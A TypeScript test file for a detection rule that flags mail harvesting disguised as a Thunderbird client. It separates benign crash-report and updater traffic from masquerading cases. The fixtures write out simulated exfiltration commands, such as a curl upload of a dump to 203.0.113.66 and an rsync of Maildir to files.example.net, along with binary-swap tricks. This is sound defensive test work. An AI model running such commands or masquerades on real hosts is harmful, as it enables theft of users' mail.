import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { factorsOf, firesAt, scanLog, storyOf } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** A mail client in a folder of /opt that root gave to its user, and harvests in its clothes. */
const CLIENT = '/opt/thunderbird/thunderbird';
const DUMP = '/home/clerk/.thunderbird/Crash Reports/pending/1.dmp';
const OUT = '203.0.113.66';

interface Facts {
  readonly log: HostLog;
  readonly mine: Delivered;
  readonly other: Delivered;
}

function mailHost(): Facts {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  const mine = log.deliver();
  const other = log.deliver({ to: 'buyer' });
  log.wait(MINUTE);
  return { log, mine, other };
}

/** Starts a program that belongs to the clerk, or to `owner`. */
function started(log: HostLog, words: string, owner = 1003): Process {
  log.records.node(words.split(' ', 1)[0] as string, owner).uid = owner;
  return log.desktop('clerk').run(words);
}

test('a client that reads the mail of its user and fetches something is informational, and says why', async () => {
  const { log, mine } = mailHost();
  started(log, `${CLIENT} -P default`).read(mine.path).connect('203.0.113.81', 443);
  const story = storyOf(await scanLog(log), 'AN1310');
  assert.equal(story.severity, 'informational');
  assert.ok(factorsOf(story).includes('a mail client of its user, on the own mail'));
  assert.ok(!story.wouldChange.some(({ setting }) => setting === 'ValidatedHosts'), 'no setting makes it high');
});

test('and so is the report of its crash, which a program of it uploads', async () => {
  const { log, mine } = mailHost();
  const client = started(log, CLIENT).read(mine.path).write(DUMP);
  const reporter = client.run(['/opt/thunderbird/crashreporter', DUMP]);
  reporter.exec(['/usr/bin/curl', '-s', '--data-binary', `@${DUMP}`, 'http://cdn.example.com/submit']);
  reporter.read(DUMP).connect('203.0.113.81', 80);
  assert.equal(storyOf(await scanLog(log), 'AN1310').severity, 'informational');
});

test('the client that crashed reads what it wrote when it is started again, and connects: it is the same client', async () => {
  const note = '/home/clerk/.thunderbird/Crash Reports/LastCrash';
  const severityOf = async (again: string, owner = 1003) => {
    const { log, mine } = mailHost();
    started(log, CLIENT).read(mine.path).write(note);
    log.wait(MINUTE);
    started(log, again, owner).read(note).connect('203.0.113.81', 443);
    return storyOf(await scanLog(log), 'AN1310').severity;
  };
  assert.equal(await severityOf(`${CLIENT} -P default`), 'informational');
  assert.equal(await severityOf(`${CLIENT} -compose to=x@example.net`), 'medium', 'its words name somebody');
  assert.equal(await severityOf('/opt/thunderbird2/thunderbird'), 'medium', 'another client');
  assert.equal(await severityOf('/usr/bin/rsync', 0), 'medium');
});

test('the client that its updater starts anew reads the mail of its user as before', async () => {
  const { log, mine } = mailHost();
  const client = started(log, CLIENT).read(mine.path).write('/home/clerk/.cache/thunderbird/updater');
  const updater = client
    .run('/home/clerk/.cache/thunderbird/updater /opt/thunderbird')
    .write('/home/clerk/.cache/u.log');
  updater.exec(CLIENT).read(mine.path).connect('203.0.113.81', 443);
  const alerts = await scanLog(log);
  assert.equal(storyOf(alerts, 'AN1310').severity, 'informational');
  assert.equal(storyOf(alerts, 'AN0656').severity, 'informational');
});

test('the client that its updater replaced is the client still', async () => {
  const { log, mine } = mailHost();
  const client = started(log, CLIENT).read('/opt/thunderbird/updater').write('/home/clerk/.cache/thunderbird/updater');
  const updater = client.run('/home/clerk/.cache/thunderbird/updater /opt/thunderbird');
  updater.write(`${CLIENT}.next`).rename(`${CLIENT}.next`, CLIENT);
  log.wait(MINUTE);
  started(log, CLIENT).read(mine.path).connect('203.0.113.81', 443);
  assert.equal(storyOf(await scanLog(log), 'AN1310').severity, 'informational');
});

const HARVESTS: Readonly<Record<string, (facts: Facts) => void>> = {
  'a copy of a tool in its place, told what to take': ({ log, mine }) => {
    started(log, `${CLIENT} copy /home/clerk/Maildir remote:x`).read(mine.path).connect(OUT, 443);
  },
  'a copy of a tool in its place, told where to send': ({ log, mine }) => {
    started(log, `${CLIENT} -avz Maildir files.example.net:x`).read(mine.path).connect(OUT, 443);
  },
  'the file that it wrote, uploaded from a shell': ({ log, mine }) => {
    started(log, CLIENT).read(mine.path).write(DUMP);
    log
      .shell('clerk')
      .run(['/usr/bin/curl', '-T', DUMP, `https://${OUT}/`])
      .read(DUMP)
      .connect(OUT, 443);
  },
  'the file that it wrote, uploaded by an attachment that it started': ({ log, mine }) => {
    const client = started(log, CLIENT).read(mine.path).write(DUMP).write('/home/clerk/tool');
    client.run('/home/clerk/tool').read(DUMP).connect(OUT, 443);
  },
  'a program that its user wrote into its place': ({ log, mine }) => {
    started(log, CLIENT).read(mine.path);
    log.shell('clerk').run(`/bin/cp /usr/bin/x ${CLIENT}`).write(CLIENT);
    started(log, CLIENT).read(mine.path).connect(OUT, 443);
  },
  'a program that its user moved into its place': ({ log, mine }) => {
    log.shell('clerk').run(`/bin/mv work/x ${CLIENT}`).rename('/home/clerk/work/x', CLIENT);
    started(log, CLIENT).read(mine.path).connect(OUT, 443);
  },
  'its name in a home': ({ log, mine }) => {
    started(log, '/home/clerk/thunderbird/thunderbird').read(mine.path).connect(OUT, 443);
  },
  'its name, and another owner': ({ log, mine }) => {
    started(log, CLIENT, 1002).read(mine.path).connect(OUT, 443);
  },
  'another program in its folder': ({ log, mine }) => {
    started(log, '/opt/thunderbird/sync').read(mine.path).connect(OUT, 443);
  },
  'a script in its folder': ({ log, mine }) => {
    log.records.node(CLIENT, 1003).uid = 1003;
    log.desktop('clerk').run(CLIENT, { by: '/usr/bin/python3' }).read(mine.path).connect(OUT, 443);
  },
  'the mail of somebody else': ({ log, mine, other }) => {
    started(log, CLIENT).read(mine.path).read(other.path).connect(OUT, 443);
  },
  'an attachment under its name, put into its place': ({ log, mine }) => {
    const client = started(log, CLIENT).read(mine.path).write('/home/clerk/Downloads/tool');
    log.wait(MINUTE);
    const tool = client.run('/home/clerk/Downloads/tool');
    log.wait(2 * MINUTE);
    const again = log.deliver();
    tool.run(CLIENT).read(again.path).connect(OUT, 443);
  },
};

for (const [what, act] of Object.entries(HARVESTS))
  test(`not excused: ${what}`, async () => {
    const facts = mailHost();
    act(facts);
    firesAt(await scanLog(facts.log), 'AN1310', 'medium');
  });
